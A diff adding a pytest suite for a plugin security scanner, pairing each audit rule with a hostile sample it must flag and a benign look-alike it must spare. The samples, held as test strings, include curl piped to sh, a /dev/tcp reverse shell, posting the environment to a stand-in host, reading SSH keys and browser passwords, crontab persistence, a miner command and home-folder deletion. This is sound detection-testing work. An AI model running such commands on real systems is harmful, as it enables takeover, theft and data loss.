@@ -1,0 +1,340 @@
+"""Every audit rule: a sample it must flag (at its severity) and a look-alike it must not."""
+
+from __future__ import annotations
+
+import textwrap
+from typing import NamedTuple
+
+import pytest
+
+from wiseflow._audit import SEVERITIES, audit_source
+
+RANK = {s: i for i, s in enumerate(SEVERITIES)}
+
+
+class Case(NamedTuple):
+    rule: str
+    severity: str  # what the positive sample is rated
+    positive: str
+    negative: str  # a look-alike: no finding of ``rule`` at ``floor`` or above
+    floor: str = "low"
+
+
+def found(source: str) -> list[tuple[str, str, str, int]]:
+    return audit_source(textwrap.dedent(source), "plugin.py")
+
+
+def worst(source: str, rule: str) -> str | None:
+    """The highest severity of ``rule`` in ``source`` (None if absent)."""
+    ranks = [RANK[s] for r, s, _, _ in found(source) if r == rule]
+    return SEVERITIES[max(ranks)] if ranks else None
+
+
+CASES = {
+    "exec of a base64 blob is critical; b64decode of data is not code": Case(
+        "dynamic-code", "critical",
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+        "import base64, json\ndata = json.loads(base64.b64decode('e30='))\n",
+    ),
+    "exec of a downloaded body is critical; parsing it as JSON is not": Case(
+        "dynamic-code", "critical",
+        "import requests\nexec(requests.get('https://x.org/a').text)\n",
+        "import requests\nitems = requests.get('https://x.org/a').json()\n",
+    ),
+    "exec of a string is high; ast.literal_eval is not code execution": Case(
+        "dynamic-code", "high",
+        "def f(src):\n    exec(src)\n",
+        "import ast\nvalue = ast.literal_eval('(1, 2)')\n",
+    ),
+    "exec of image pixels is critical (steganography)": Case(
+        "dynamic-code", "critical",
+        "from stegano import lsb\nexec(lsb.reveal('a.png'))\n",
+        "from PIL import Image\nsize = Image.open('a.png').size\n",
+    ),
+    "marshal.loads builds a code object; json.loads does not": Case(
+        "code-object", "high",
+        "import marshal\ncode = marshal.loads(blob)\n",
+        "import json\ndata = json.loads(blob)\n",
+    ),
+    "an import name built from pieces is high; a literal import_module is low": Case(
+        "dynamic-import", "high",
+        "import importlib\nm = importlib.import_module('sub' + 'process')\n",
+        "import importlib\nm = importlib.import_module('json')\n",
+        "medium",
+    ),
+    "__import__ of a computed name is high; of a literal it is low": Case(
+        "dynamic-import", "high",
+        "def f(name):\n    return __import__(name)\n",
+        "yaml = __import__('yaml')\n",
+        "medium",
+    ),
+    "chr arithmetic spelling 'system' is high; a join of words is not obfuscation": Case(
+        "obfuscation", "high",
+        "import os\nf = getattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))\n",
+        "title = ', '.join(['alpha', 'beta', 'gamma'])\n",
+    ),
+    "reversed and rot13 names are obfuscation; slicing a word is not": Case(
+        "obfuscation", "high",
+        "import codecs\nm = __import__('so'[::-1])\nn = codecs.decode('flfgrz', 'rot13')\n",
+        "word = 'hello'\nhead = word[:3]\n",
+    ),
+    "escape-coded names are high; an ANSI colour escape is not": Case(
+        "obfuscation", "high",
+        'f = "\\x65\\x76\\x61\\x6c"\n',
+        'RED = "\\x1b[31m"\nRESET = "\\x1b[0m"\n',
+    ),
+    "globals()['__builtins__'] lookups are high; globals() of a plain name is not": Case(
+        "obfuscation", "high",
+        "g = globals()['__builtins__']['ev' + 'al']\n",
+        "handler = globals()['default_handler']\n",
+    ),
+    "getattr(builtins, computed) is high; getattr(self, name) is at most low": Case(
+        "obfuscation", "high",
+        "import builtins\ndef f(n):\n    return getattr(builtins, n)\n",
+        "class A:\n    def go(self, n):\n        return getattr(self, 'on_' + n)()\n",
+        "medium",
+    ),
+    "bidirectional text controls hide code": Case(
+        "obfuscation", "high",
+        "x = 1  # \u202e comment\n",
+        "x = 1  # an accented comment: caf\u00e9\n",
+    ),
+    "pyarmor runtime is unreadable code; an ordinary import is not": Case(
+        "obfuscated-code", "high",
+        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n",
+        "from pathlib import Path\n",
+    ),
+    "a long base64 blob is low; a short token is not": Case(
+        "encoded-blob", "low",
+        f"BLOB = '{'aGVsbG8gd29ybGQh' * 12}'\n",
+        "ID = 'QUJDRA=='\n",
+    ),
+    "__subclasses__ walks are high; __name__ is not": Case(
+        "introspection", "high",
+        "subs = ().__class__.__base__.__subclasses__()\n",
+        "name = type(1).__name__\n",
+    ),
+    "a frame's globals are high; inspect.signature is not": Case(
+        "introspection", "high",
+        "import sys\ng = sys._getframe(1).f_globals\n",
+        "import inspect\nsig = inspect.signature(print)\n",
+    ),
+    "ctypes is native code (critical); struct is not": Case(
+        "native-code", "critical",
+        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 0x3000, 0x40)\n",
+        "import struct\nn = struct.unpack('<I', b'\\x00\\x00\\x00\\x01')\n",
+    ),
+    "raw sockets are high; socket.gethostname alone is at most low": Case(
+        "raw-network", "high",
+        "import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 80))\n",
+        "import socket\nlabel = socket.gethostname()\n",
+    ),
+    "requests is a network capability (low); ctx.http is not flagged": Case(
+        "network", "low",
+        "import requests\nr = requests.get('https://api.example.org')\n",
+        "def fetch(ctx):\n    return ctx.http.get('https://api.example.org').json()\n",
+    ),
+    "a literal git command is low; a computed shell command is high": Case(
+        "subprocess", "high",
+        "import os\ndef f(cmd):\n    os.system(cmd)\n",
+        "import subprocess\nsubprocess.run(['git', 'log', '-n', '1'], check=True)\n",
+        "medium",
+    ),
+    "an interactive shell is high; a literal program is low": Case(
+        "subprocess", "high",
+        "import pty\npty.spawn('/bin/sh')\n",
+        "import subprocess\nsubprocess.check_output(['pandoc', '--version'])\n",
+        "medium",
+    ),
+    "curl piped to sh is critical; curl writing a file under a literal argv is not": Case(
+        "download-exec", "critical",
+        "import os\nos.system('curl -s http://x.tk/i | sh')\n",
+        "import subprocess\nsubprocess.run(['curl', '-fsSLO', 'https://example.org/data.csv'])\n",
+    ),
+    "saving a download as an executable is high; saving JSON is at most medium": Case(
+        "download-exec", "high",
+        "import requests\nwith open('/tmp/x.exe', 'wb') as f:\n"
+        "    f.write(requests.get('http://x/y').content)\n",
+        "import requests, json\nwith open('out.json', 'w') as f:\n"
+        "    json.dump(requests.get('http://x/y').json(), f)\n",
+        "high",
+    ),
+    "'pip install' run as a command is high; in an error message it is not": Case(
+        "download-exec", "high",
+        "import subprocess, sys\n"
+        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
+        "raise ImportError('yaml support needs PyYAML: run `pip install pyyaml`')\n",
+    ),
+    "sending the environment out is critical; sending a record is not": Case(
+        "exfiltration", "critical",
+        "import os, requests\nrequests.post('https://x.org', json=dict(os.environ))\n",
+        "import requests\nrequests.post('https://x.org', json={'id': 1})\n",
+    ),
+    "sending host data out is high; the URL from an env var is not exfiltration": Case(
+        "exfiltration", "high",
+        "import getpass, requests\nrequests.post('https://x.org', data=getpass.getuser())\n",
+        "import os, httpx\nurl = os.environ.get('REPORT_URL')\nhttpx.post(url, json={'n': 1})\n",
+    ),
+    "a token in auth headers is medium, not exfiltration-high": Case(
+        "exfiltration", "critical",
+        "import os, requests\nrequests.post('https://x.org', data=os.environ['API_TOKEN'])\n",
+        "import os, requests\nt = os.environ['API_TOKEN']\n"
+        "requests.get('https://x.org', headers={'Authorization': t})\n",
+        "high",
+    ),
+    "reading ~/.ssh/id_rsa is high; reading a file of one's own folder is not": Case(
+        "credential-access", "high",
+        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+        "from pathlib import Path\nwords = (Path(__file__).parent / 'words.txt').read_text()\n",
+    ),
+    "the keyring is high; hashlib is not": Case(
+        "credential-access", "high",
+        "import keyring\npw = keyring.get_password('svc', 'me')\n",
+        "import hashlib\nh = hashlib.sha256(b'x').hexdigest()\n",
+    ),
+    "a browser login query is high; an ordinary SQL query is not": Case(
+        "credential-access", "high",
+        "cur.execute('SELECT origin_url, password_value FROM logins')\n",
+        "cur.execute('SELECT kind, COUNT(*) FROM records GROUP BY kind')\n",
+    ),
+    "appending to ~/.bashrc is critical; writing to a temp file is not": Case(
+        "persistence", "critical",
+        "import os\nwith open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as f:\n"
+        "    f.write('x')\n",
+        "import tempfile\nwith tempfile.TemporaryFile('w') as f:\n    f.write('x')\n",
+    ),
+    "a .pth file in site-packages is critical; reading a .txt is not": Case(
+        "persistence", "critical",
+        "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')\n",
+        "text = open('notes.txt').read()\n",
+    ),
+    "a crontab entry is critical; a cron-like schedule string is not persistence": Case(
+        "persistence", "critical",
+        "import subprocess\nsubprocess.run('(crontab -l; echo x) | crontab -', shell=True)\n",
+        "SCHEDULE = '*/10 * * * *'\n",
+    ),
+    "a socket dup'ed onto stdio is a reverse shell; dup2 of a pipe is medium": Case(
+        "reverse-shell", "critical",
+        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n",
+        "import os\nr, w = os.pipe()\nos.dup2(w, 1)\n",
+        "high",
+    ),
+    "a /dev/tcp command is critical; a TCP port constant is not": Case(
+        "reverse-shell", "critical",
+        "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
+        "PORT = 4444\n",
+    ),
+    "DEVNULL on both streams is silent execution; capture_output is not": Case(
+        "silent-process", "high",
+        "import subprocess\nsubprocess.Popen(['x'], stdout=subprocess.DEVNULL, "
+        "stderr=subprocess.DEVNULL)\n",
+        "import subprocess\nsubprocess.run(['git', 'status'], capture_output=True)\n",
+    ),
+    "a mining pool is critical; the word 'mining' is not": Case(
+        "cryptominer", "critical",
+        "import os\nos.system('./xmrig -o stratum+tcp://pool:3333')\n",
+        "TOPIC = 'text mining of changelogs'\n",
+    ),
+    "the clipboard is high; reading stdin is not": Case(
+        "spyware", "high",
+        "import pyperclip\nclip = pyperclip.paste()\n",
+        "import sys\nline = sys.stdin.readline()\n",
+    ),
+    "low bits of image pixels are steganography; thumbnails are not": Case(
+        "steganography", "high",
+        "from PIL import Image\nimg = Image.open('a.png')\n"
+        "bits = ''.join(str(p[0] & 1) for p in img.getdata())\n",
+        "from PIL import Image\nim = Image.open('a.png')\nim.thumbnail((64, 64))\n",
+    ),
+    "overriding the install command is high; a plain setup() is not": Case(
+        "install-hook", "high",
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    pass\nsetup(name='x', cmdclass={'install': I})\n",
+        "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n",
+    ),
+    "a Discord webhook is high; an API URL is not": Case(
+        "suspicious-url", "high",
+        "URL = 'https://discord.com/api/webhooks/1/abc'\n",
+        "URL = 'https://api.github.com/repos'\n",
+    ),
+    "a raw public IP URL is medium; localhost is not": Case(
+        "suspicious-url", "medium",
+        "URL = 'http://185.10.10.10/x'\n",
+        "URL = 'http://127.0.0.1:8080/health'\n",
+    ),
+    "a public-IP lookup is medium fingerprinting; a weather API is not": Case(
+        "fingerprint", "medium",
+        "IP = 'https://api.ipify.org?format=json'\n",
+        "API = 'https://api.weather.gov/points'\n",
+    ),
+    "an absolute path read is low file access; a relative one is not": Case(
+        "file-access", "low",
+        "hosts = open('/etc/hosts').read()\n",
+        "data = open('data/words.txt').read()\n",
+    ),
+    "sys.path changes are medium; reading sys.path is not": Case(
+        "import-path", "medium",
+        "import sys\nsys.path.insert(0, '/tmp/x')\n",
+        "import sys\nfirst = sys.path[0]\n",
+    ),
+    "a secret-named variable is medium; a plain one is low": Case(
+        "environment", "medium",
+        "import os\nk = os.environ.get('AWS_SECRET_ACCESS_KEY')\n",
+        "import os\nh = os.environ.get('HOME')\n",
+        "medium",
+    ),
+    "the whole environment is medium; copying it for a child's env is the same, not high": Case(
+        "environment-dump", "medium",
+        "import os\nblob = str(dict(os.environ))\n",
+        "import os\nlang = os.environ.get('LANG')\n",
+    ),
+    "removing the home folder is high; list.remove is not": Case(
+        "destruction", "high",
+        "import shutil\nshutil.rmtree('~')\n",
+        "items = [1, 2]\nitems.remove(1)\n",
+    ),
+    "pickle is unsafe deserialisation; json is not": Case(
+        "unsafe-deserialise", "medium",
+        "import pickle\nobj = pickle.loads(blob)\n",
+        "import json\nobj = json.loads(blob)\n",
+    ),
+    "killing processes is high; os.getpid is not": Case(
+        "process-control", "high",
+        "import os\nos.kill(1, 9)\n",
+        "import os\npid = os.getpid()\n",
+    ),
+    "source that does not parse is high": Case(
+        "unparsable", "high",
+        "def (:\n",
+        "def f():\n    return 1\n",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
+def test_rule_flags_its_sample(case: Case) -> None:
+    """Each rule rates its positive sample at the rule's severity."""
+    assert worst(case.positive, case.rule) == case.severity, found(case.positive)
+
+
+@pytest.mark.parametrize("case", CASES.values(), ids=list(CASES))
+def test_rule_spares_its_look_alike(case: Case) -> None:
+    """Each rule leaves its benign look-alike below the case's floor."""
+    got = worst(case.negative, case.rule)
+    assert got is None or RANK[got] < RANK[case.floor], found(case.negative)
+
+
+def test_every_rule_has_a_case() -> None:
+    """The table covers every rule the source walk can emit."""
+    import inspect
+    import re
+
+    from wiseflow._audit import _calls, _rules, _scan
+
+    emitted = set()
+    for module in (_calls, _rules, _scan):
+        emitted |= set(re.findall(r'Rule\("([a-z-]+)"', inspect.getsource(module)))
+        emitted |= set(re.findall(r'"([a-z-]+)", "(?:info|low|medium|high|critical)"',
+                                  inspect.getsource(module)))  # fmt: skip
+    covered = {c.rule for c in CASES.values()}
+    assert emitted - set(SEVERITIES) - covered == set()
